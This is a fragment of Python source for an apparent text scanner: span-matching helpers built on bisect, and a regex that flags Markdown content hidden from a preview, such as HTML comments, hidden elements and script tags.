        uses = runs.get(_base(target), [])
        first = bisect.bisect_left(uses, (named, ""))
        for at, path in uses[first : first + 8]:
            if at - start <= RUN_WINDOW and (path == target or "/" not in path or "/" not in target):
                yield start, at + len(path)
                break


def spans(shape: Shape, reading: str) -> Iterator[tuple[int, int]]:
    """Where `shape` is in the reading (a pair: the first `then` after each match, if near)."""
    if shape.then is None:
        for match in shape.pattern.finditer(reading):
            start = match.start()
            if not shape.refers_to or shape.refers_to.search(reading, max(0, start - 100), start):
                yield match.span()
        return
    seconds = [match.span() for match in shape.then.finditer(reading)]
    starts = [start for start, _ in seconds]
    for match in shape.pattern.finditer(reading):
        i = bisect.bisect_left(starts, match.end())
        if i < len(seconds) and seconds[i][0] - match.end() <= shape.within:
            if not any(stop in reading[match.end() : seconds[i][0]] for stop in shape.stops):
                yield match.start(), seconds[i][1]


# --- text a person reviewing a Markdown preview never sees -----------------------------------

HIDDEN = re.compile(
    r"<!--|^\s{0,3}\[[^\]\n]{1,100}\]:\s|<[a-z][\w-]{0,20}\b[^>\n]{0,200}?(?:\bhidden\b|display\s{0,2}:\s{0,2}none)"
    r"|<(?:script|style|template|noscript)\b",
    re.IGNORECASE | re.MULTILINE,
)
